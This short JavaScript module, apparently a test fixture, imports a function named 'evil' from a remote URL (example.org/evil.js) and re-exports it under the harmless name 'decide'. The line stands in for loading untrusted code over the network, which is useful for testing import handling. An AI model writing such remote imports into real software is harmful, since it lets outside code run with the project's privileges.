import { evil } from "https://example.org/evil.js";
export const decide = evil;
